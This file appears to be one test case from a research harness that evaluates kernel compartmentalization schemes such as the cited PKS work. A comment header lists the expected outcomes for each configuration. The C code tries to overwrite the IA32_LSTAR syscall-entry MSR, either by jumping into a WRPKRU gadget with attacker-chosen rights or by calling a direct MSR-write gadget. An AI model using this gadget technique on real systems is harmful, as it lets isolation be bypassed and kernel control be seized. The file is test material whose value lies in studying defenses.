/*
{
  "title": "IA32_LSTAR set by a jump to the change of rights in the way out to the overlay, with the rights in EAX that a check of them asks for: the extension goes on",
  "reference": "Guo et al., BULKHEAD: Secure, Scalable, and Efficient Kernel Compartmentalization with PKS, NDSS 2025 (each WRMSR is a gate)",
  "symbols": ["write_msr", "leave_wrpkru", "overlay_rights"],
  "cells": {
    "none": {"outcome": "completed"},
    "uio-mpk": {"outcome": "escaped"},
    "mpk-hardened": {"outcome": "contained"},
    "ring3": {"outcome": "contained"},
    "pks-hardened": {"outcome": "contained"},
    "mpk-bundled": {"outcome": "contained", "event": "exception"}
  },
  "control": {
    "none": "completed",
    "uio-mpk": "completed",
    "mpk-hardened": "completed",
    "ring3": "completed",
    "pks-hardened": "completed",
    "mpk-bundled": "completed"
  }
}
*/
#include "attack.h"
#include "gadget.h"

extern const char leave_wrpkru[] __attribute__((weak));
// In the published page.
extern const uint32_t overlay_rights __attribute__((weak));

int main(void) {
  GOAL_END();
  BYPASS(
      if (leave_wrpkru) __asm__ volatile(
          "leaq -8(%%rsp), %%r10\n leaq 1f(%%rip), %%r11\n movq %%r11, -8(%%rsp)\n"
          "jmp *%0\n 1:" : : "r"(leave_wrpkru), "a"(overlay_rights), "c"(0xc0000082), "d"(1) : "r10", "r11", "memory");
      else gadget_write_msr(0, 0xc0000082, 1ull << 32));
  return 0;
}
